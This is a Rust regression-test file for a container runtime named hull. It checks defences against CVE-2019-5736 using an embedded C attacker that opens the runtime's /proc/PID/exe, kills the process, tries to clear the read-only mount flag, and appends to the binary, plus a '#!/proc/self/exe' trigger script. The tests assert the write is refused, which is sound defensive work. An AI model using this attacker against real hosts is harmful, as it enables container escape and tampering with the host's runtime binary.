//! CVE-2019-5736 through a container binary that is a script `#!/proc/self/exe`: when hull
//! execve's it (the init, or an exec'd process), the kernel runs hull's own image inside
//! the container, where another process can open `/proc/PID/exe`, kill it, and reopen the
//! file for writing. The attacker here is a real program in a real container; it appends
//! to the binary if it can. The binary under attack is a copy of hull made for the test,
//! and it must come out byte-identical.
//!
//! To make the race deterministic, the victim's hull image is kept blocked: its usage
//! error goes to a pipe the test filled (or a terminal the test stopped with ^S), so the
//! attacker always finds it alive.

use std::io::Write;
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::common::*;

/// Finds a process (other than itself) whose argv[0] is argv[1], stops it,
/// opens its /proc/PID/exe, kills it, then tries to reopen that file for writing (while
/// another process still runs the image the kernel says ETXTBSY: it retries) and appends
/// a line if it can. Prints `wrote`, `refused: <error>`, `open-exe: <error>` or `none`.
/// With argv[3] `unwrap` it first clears the read-only flag of the mount the file is on
/// (mount_setattr on the fd, as a process with CAP_SYS_ADMIN can) and prints `unwrap: ok`
/// or `unwrap: <error>`.
const ATTACKER_C: &str = r#"
#include <sys/syscall.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void) {
    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* argv[0] of the process is `mark`. */
static int has_mark(int pid, const char *mark) {
    char path[64], buf[4096]; snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY); if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1); close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    return strcmp(buf, mark) == 0;
}

int main(int argc, char **argv) {
    const char *mark = argv[1];
    long deadline = now_ms() + atol(argv[2]);
    setvbuf(stdout, NULL, _IONBF, 0);
    while (now_ms() < deadline) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid() || !has_mark(pid, mark)) continue;
            kill(pid, SIGSTOP);
            char path[64]; snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int exe = open(path, O_RDONLY);
            if (exe < 0) { printf("open-exe: %s\n", strerror(errno)); return 0; }
            if (argc > 3 && strcmp(argv[3], "unwrap") == 0) {
                /* struct mount_attr: attr_set, attr_clr (MOUNT_ATTR_RDONLY), ... */
                unsigned long long attr[4] = {0, 1, 0, 0};
                long r = syscall(442 /* mount_setattr */, exe, "", 0x1000 /* AT_EMPTY_PATH */,
                                 attr, sizeof attr);
                printf("unwrap: %s\n", r == 0 ? "ok" : strerror(errno));
            }
            kill(pid, SIGKILL);
            snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
            int err = 0;
            while (now_ms() < deadline) {
                int w = open(path, O_WRONLY | O_APPEND);
                if (w >= 0) {
                    if (write(w, "PWNED by the container\n", 23) == 23) printf("wrote\n");
                    else printf("refused: write: %s\n", strerror(errno));
                    return 0;
                }
                err = errno;
                if (err != ETXTBSY) break;
                usleep(5000);
            }
            printf("refused: %s\n", strerror(err));
            return 0;
        }
        if (d) closedir(d);
        usleep(200);
    }
    printf("none\n");
    return 0;
}
"#;

/// Build the attacker at `dest` (static: the rootfs has no C library).
fn build_attacker(dest: &std::path::Path) {
    let src = dest.with_extension("c");
    std::fs::write(&src, ATTACKER_C).unwrap();
    let o = std::process::Command::new("cc")
        .args(["-static", "-O1", "-o"])
        .arg(dest)
        .arg(&src)
        .output()
        .expect("cc (gcc) is needed to build the attacker");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let _ = std::fs::remove_file(&src);
}

/// A private copy of hull (the attack may overwrite it) and a guard that runs it.
struct Target {
    _dir: TempDir,
    bin: PathBuf,
    before: Vec<u8>,
}

impl Target {
    fn new() -> (Target, Hull) {
        let dir = TempDir::new("cve-exe-bin");
        let bin = dir.path().join("hull");
        std::fs::copy(hull_bin(), &bin).unwrap();
        std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
        let before = std::fs::read(&bin).unwrap();
        let h = Hull::with_bin(bin.clone());
        (
            Target {
                _dir: dir,
                bin,
                before,
            },
            h,
        )
    }

    fn assert_untouched(&self, out: &str) {
        let line = out.lines().last().unwrap_or_default();
        assert!(
            line.starts_with("refused: Read-only file system"),
            "the attacker must find the hull image and be refused (EROFS): {out:?}"
        );
        assert!(
            std::fs::read(&self.bin).unwrap() == self.before,
            "the hull binary was modified through /proc/PID/exe"
        );
    }
}

/// A bundle whose rootfs has the attacker at /attacker and `/evil`, a script whose
/// interpreter is /proc/self/exe, and the C library hull's image needs to start there
/// (a test build is linked dynamically; the shipped binary is static).
fn bundle_with_evil(h: &Hull, args: &[&str]) -> Bundle {
    let b = h.bundle(args);
    build_attacker(&b.rootfs().join("attacker"));
    for lib in shared_libs(&hull_bin()) {
        let dest = b.rootfs().join(lib.strip_prefix("/").unwrap());
        std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
        std::fs::copy(&lib, &dest).unwrap();
    }
    let evil = b.rootfs().join("evil");
    std::fs::write(&evil, "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
    b
}

/// The shared objects `bin` loads (ldd's absolute paths); none for a static binary.
fn shared_libs(bin: &std::path::Path) -> Vec<PathBuf> {
    let o = std::process::Command::new("ldd").arg(bin).output().unwrap();
    String::from_utf8_lossy(&o.stdout)
        .split_whitespace()
        .filter(|w| w.starts_with('/'))
        .map(PathBuf::from)
        .collect()
}

/// A pipe whose buffer is full: a blocking write to `.1` waits until `.0` is read.
fn full_pipe() -> (OwnedFd, OwnedFd) {
    let (r, w) = nix::unistd::pipe2(nix::fcntl::OFlag::O_CLOEXEC).unwrap();
    let fl = nix::fcntl::fcntl(&w, nix::fcntl::FcntlArg::F_GETFL).unwrap();
    let nb = nix::fcntl::OFlag::from_bits_truncate(fl) | nix::fcntl::OFlag::O_NONBLOCK;
    nix::fcntl::fcntl(&w, nix::fcntl::FcntlArg::F_SETFL(nb)).unwrap();
    let chunk = [b'x'; 4096];
    while nix::unistd::write(&w, &chunk).is_ok() {}
    nix::fcntl::fcntl(
        &w,
        nix::fcntl::FcntlArg::F_SETFL(nb - nix::fcntl::OFlag::O_NONBLOCK),
    )
    .unwrap();
    (r, w)
}

/// Wait for a hull whose stderr is the full pipe (an error message would block it): 10 s at
/// most, then it is killed and the test fails.
fn wait_bounded(mut child: std::process::Child) -> std::process::ExitStatus {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if let Some(st) = child.try_wait().unwrap() {
            return st;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("hull did not return within 10 s (blocked writing an error?)");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Start the attacker as the init of a detached container; its report goes to a file.
fn start_attacker(h: &Hull) -> (Bundle, String) {
    // The kernel runs `#!/proc/self/exe` scripts as `/proc/self/exe SCRIPT`.
    let b = bundle_with_evil(h, &["/attacker", "/proc/self/exe", "15000"]);
    start_in(h, b)
}

fn start_in(h: &Hull, b: Bundle) -> (Bundle, String) {
    let id = unique_id("attacker");
    let (code, err) = h.create(&b, &id, &[]);
    assert_eq!(code, Some(0), "{err}");
    h.ok(&["start", &id]);
    (b, id)
}

/// The attacker's report once it has exited.
fn attacker_report(h: &Hull, b: &Bundle, id: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(20);
    while h.status(id) != "stopped" {
        assert!(Instant::now() < deadline, "the attacker did not finish");
        std::thread::sleep(Duration::from_millis(20));
    }
    std::fs::read_to_string(b.path().join("stdout")).unwrap()
}

/// `hull exec -d ID /evil` with its output on a full pipe (so the hull image blocks in the
/// container), then the attacker's report; the container is deleted.
fn exec_evil(h: &Hull, b: &Bundle, id: &str) -> String {
    let (_r, w) = full_pipe();
    let w2 = w.try_clone().unwrap();
    let exec = h
        .cmd(&["exec", "-d", id, "/evil"])
        .stdout(Stdio::from(w))
        .stderr(Stdio::from(w2))
        .spawn()
        .unwrap();
    let st = wait_bounded(exec);
    assert!(st.success(), "hull exec -d /evil: {st:?}");
    let out = attacker_report(h, b, id);
    h.ok(&["delete", "--force", id]);
    out
}

#[test]
fn exec_of_a_proc_self_exe_script_cannot_write_the_hull_binary() {
    let (target, h) = Target::new();
    let (b, id) = start_attacker(&h);
    let out = exec_evil(&h, &b, &id);
    target.assert_untouched(&out);
}

/// A privileged container (CAP_SYS_ADMIN, no user namespace) tries to clear the read-only
/// flag of the view hull runs from through the fd it gets from /proc/PID/exe, then writes.
/// (A read-only bind would resist this too once the fd that made it is closed, as it is
/// by hull's re-exec: the mount then belongs to no namespace and mount_setattr says
/// EINVAL; while that fd is open it can be unwrapped, see hull_common::sealed_view.)
#[test]
fn a_privileged_container_cannot_make_the_hull_image_writable() {
    let (target, h) = Target::new();
    let b = bundle_with_evil(&h, &["/attacker", "/proc/self/exe", "15000", "unwrap"]);
    b.edit(|c| {
        let all = json!([
            "CAP_SYS_ADMIN",
            "CAP_KILL",
            "CAP_SYS_PTRACE",
            "CAP_DAC_OVERRIDE"
        ]);
        for set in ["bounding", "effective", "permitted"] {
            c["process"]["capabilities"][set] = all.clone();
        }
    });
    let (b, id) = start_in(&h, b);
    let out = exec_evil(&h, &b, &id);
    // The attacker did try.
    assert!(out.contains("unwrap: "), "{out:?}");
    target.assert_untouched(&out);
}

/// `exec -t`: the process's stdio is a terminal; the test (the console socket's owner)
/// stops its output with ^S the moment it has the master, so the image blocks there.
#[test]
fn exec_t_of_a_proc_self_exe_script_cannot_write_the_hull_binary() {
    let (target, h) = Target::new();
    let (b, id) = start_attacker(&h);
    let sock = b.path().join("console.sock");
    let l = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    let mut exec = h
        .cmd(&[
            "exec",
            "-t",
            "-d",
            "--console-socket",
            sock.to_str().unwrap(),
            &id,
            "/evil",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (master, _) = crate::terminal::receive_master(&l);
    let mut master = std::fs::File::from(master);
    master.write_all(b"\x13").unwrap(); // ^S: IXON stops the terminal's output
    let st = exec.wait().unwrap();
    assert!(st.success(), "hull exec -t /evil: {st:?}");
    let out = attacker_report(&h, &b, &id);
    drop(master);
    h.ok(&["delete", "--force", &id]);
    target.assert_untouched(&out);
}

/// The container's own process: the victim's init runs /evil; the attacker is a second
/// container sharing the victim's pid namespace.
#[test]
fn an_init_that_runs_a_proc_self_exe_script_cannot_write_the_hull_binary() {
    let (target, h) = Target::new();
    let (ab, aid) = start_attacker(&h);
    let pid = h.pid(&aid);
    let vb = bundle_with_evil(&h, &["/evil"]);
    vb.edit(|c| {
        c["linux"]["namespaces"] = json!([
            {"type": "pid", "path": format!("/proc/{pid}/ns/pid")},
            {"type": "network"}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}]);
    });
    let vid = unique_id("victim");
    let (_r, w) = full_pipe();
    let w2 = w.try_clone().unwrap();
    let create = h
        .cmd(&["create", "--bundle", vb.path_str(), &vid])
        .stdout(Stdio::from(w))
        .stderr(Stdio::from(w2))
        .spawn()
        .unwrap();
    let st = wait_bounded(create);
    assert!(st.success(), "create of the victim: {st:?}");
    h.ok(&["start", &vid]);
    let out = attacker_report(&h, &ab, &aid);
    h.ok(&["delete", "--force", &vid]);
    h.ok(&["delete", "--force", &aid]);
    target.assert_untouched(&out);
}

/// The view hull re-executes from is a read-only overlayfs and private: nothing of it
/// shows in the host's mount table, and it is the binary itself (no memfd copy).
#[test]
fn the_image_a_container_can_see_is_a_read_only_overlay_of_the_binary() {
    let h = Hull::new();
    let b = h.bundle(&["sleep", "30"]);
    let id = unique_id("roview");
    let mounts_before = host_mounts();
    let (code, err) = h.create(&b, &id, &[]);
    assert_eq!(code, Some(0), "{err}");
    let pid = h.pid(&id);
    let exe = format!("/proc/{pid}/exe");
    let st = nix::sys::statvfs::statvfs(exe.as_str()).unwrap();
    assert!(
        st.flags().contains(nix::sys::statvfs::FsFlags::ST_RDONLY),
        "the init's image is on a read-only mount: {:?}",
        st.flags()
    );
    let fs = nix::sys::statfs::statfs(exe.as_str()).unwrap();
    assert_eq!(
        fs.filesystem_type(),
        nix::sys::statfs::OVERLAYFS_SUPER_MAGIC,
        "the init's image is on an overlayfs"
    );
    let link = std::fs::read_link(&exe).unwrap();
    assert!(!link.to_string_lossy().starts_with("/memfd:"), "{link:?}");
    assert_eq!(
        std::fs::read(&exe).unwrap(),
        std::fs::read(hull_bin()).unwrap()
    );
    assert_eq!(host_mounts(), mounts_before, "the view is a detached mount");
    h.ok(&["delete", "--force", &id]);
}

/// `--debug` says how hull sealed its image, in runc's words (runc's tests look for them).
#[test]
fn debug_says_the_image_is_sealed_in_runc_words() {
    let h = Hull::new();
    let b = h.bundle(&["true"]);
    let o = h.run(&[
        "--debug",
        "run",
        "--bundle",
        b.path_str(),
        &unique_id("seal"),
    ]);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(
        err.contains("level=debug msg=\"hull exeseal: using overlayfs for sealed /proc/self/exe\""),
        "{err}"
    );
    assert!(
        err.contains(
            "level=debug msg=\"hull exeseal: using /proc/self/exe clone: a read-only overlayfs \
             over the binary's directory\""
        ),
        "{err}"
    );
}
